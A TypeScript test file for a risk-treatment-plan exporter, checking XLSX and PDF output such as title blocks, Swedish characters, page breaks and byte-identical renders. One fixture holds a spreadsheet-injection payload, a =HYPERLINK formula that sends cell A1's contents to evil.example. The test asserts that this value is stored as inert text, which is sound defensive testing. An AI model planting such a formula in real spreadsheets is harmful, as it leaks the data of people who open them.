import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inflateSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import type { RiskPlanDocument, RiskPlanRow } from './risk-plan.js';
import { renderRiskPlanPdf } from './risk-plan-pdf.js';
import { renderRiskPlanXlsx } from './risk-plan-xlsx.js';

const hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';

const row = (n: number): RiskPlanRow => ({
  ref: `RSK-${String(n).padStart(3, '0')}`,
  title: `Strömavbrott i Göteborg ${n}`,
  owner: 'Åsa Öberg',
  inherent: '20 critical (L4 × I5)',
  residual: '6 medium (L2 × I3)',
  treatment: 'Mitigate',
  details: 'CTL-001 Reservkraft (implemented)\nCTL-002 Bränsleavtal (in progress)',
  status: 'treating',
  reviewDate: '2027-01-31',
});

const doc: RiskPlanDocument = {
  organizationName: 'Nordmoln AB',
  generatedAt: '2026-11-22T10:15:00.000Z',
  matrix: '5×5; medium from 5, high from 10, critical from 20',
  rows: [{ ...row(1), details: hostile }, row(2)],
};

/** The text of every page, decoded from pdfkit's hex strings (Latin-1 covers the letters used here). */
function pdfText(pdf: Buffer): string {
  const raw = pdf.toString('latin1');
  let text = '';
  for (const match of raw.matchAll(/<<([\s\S]*?)>>\nstream\n/g)) {
    const length = Number(/\/Length (\d+)/.exec(match[1] ?? '')?.[1]);
    const start = (match.index ?? 0) + match[0].length;
    let body = pdf.subarray(start, start + length);
    if ((match[1] ?? '').includes('/FlateDecode')) body = inflateSync(body);
    for (const hex of body.toString('latin1').matchAll(/<([0-9a-f]+)>/g)) {
      text += Buffer.from(hex[1] ?? '', 'hex').toString('latin1');
    }
    text += '\n';
  }
  return text;
}

test('the XLSX plan has a title block, a header and one string row per risk, never a formula', async () => {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(await renderRiskPlanXlsx(doc)).buffer);
  const sheet = workbook.worksheets[0];
  assert.ok(sheet);
  assert.equal(sheet.getCell('A1').value, 'Risk treatment plan');
  assert.equal(sheet.getCell('B2').value, 'Nordmoln AB');
  assert.equal(sheet.getCell('B4').value, '2026-11-22 10:15 UTC');
  assert.deepEqual((sheet.getRow(6).values as unknown[]).slice(1, 4), ['Ref', 'Risk', 'Owner']);
  assert.equal(sheet.getCell('A8').value, 'RSK-002');
  assert.equal(sheet.getCell('B8').value, 'Strömavbrott i Göteborg 2');
  const cell = sheet.getCell('G7');
  assert.equal(cell.value, hostile);
  assert.equal(cell.type, ExcelJS.ValueType.String);
  assert.equal(cell.formula, undefined);
  assert.equal(workbook.created.toISOString(), doc.generatedAt);
});

test('the PDF plan is A4 landscape, keeps Swedish letters, and breaks long plans over numbered pages', async () => {
  const pdf = await renderRiskPlanPdf(doc);
  assert.equal(pdf.subarray(0, 5).toString('latin1'), '%PDF-');
  assert.match(pdf.toString('latin1'), /\/MediaBox \[0 0 841\.89 595\.28\]/);
  const text = pdfText(pdf);
  assert.ok(text.includes('Risk treatment plan'));
  assert.ok(text.includes('Strömavbrott i Göteborg 2'), text);
  assert.ok(text.includes('Åsa Öberg'));
  assert.ok(text.includes('Page 1 of 1'));
  const long = await renderRiskPlanPdf({ ...doc, rows: Array.from({ length: 80 }, (_, i) => row(i + 1)) });
  const pages = long.toString('latin1').match(/\/Type \/Page\n/g)?.length ?? 0;
  assert.ok(pages >= 3, `80 risks need several pages, got ${pages}`);
  assert.ok(pdfText(long).includes(`Page ${pages} of ${pages}`));
  assert.ok(pdfText(long).includes('RSK-080'));
});

test('an empty plan renders one page saying so; the same plan gives the same bytes', async () => {
  const empty = await renderRiskPlanPdf({ ...doc, rows: [] });
  assert.ok(pdfText(empty).includes('No risks.'));
  assert.ok((await renderRiskPlanPdf(doc)).equals(await renderRiskPlanPdf(doc)));
});
